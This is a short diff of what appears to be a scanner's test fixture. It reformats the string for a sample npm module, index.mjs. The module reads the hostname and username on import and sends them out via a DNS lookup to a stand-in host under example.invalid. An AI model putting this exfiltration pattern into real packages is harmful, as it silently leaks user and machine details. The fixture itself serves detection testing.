@@ -81,8 +81,7 @@ is announced and sends a name and a version. At install or import neither is exp
       {
         ecosystem: "npm",
         files: {
-          "index.mjs":
-            "import o from 'node:os';\nimport d from 'node:dns';\nconst h = o.hostname(), u = o.userInfo().username;\nd.resolve4(`${h}.${u}.example.invalid`, () => {});\n",
+          "index.mjs": `import o from 'node:os';\nimport d from 'node:dns';\nconst h = o.hostname(), u = o.userInfo().username;\nd.resolve4(\`\${h}.\${u}.example.invalid\`, () => {});\n`,
         },
       },
     ],
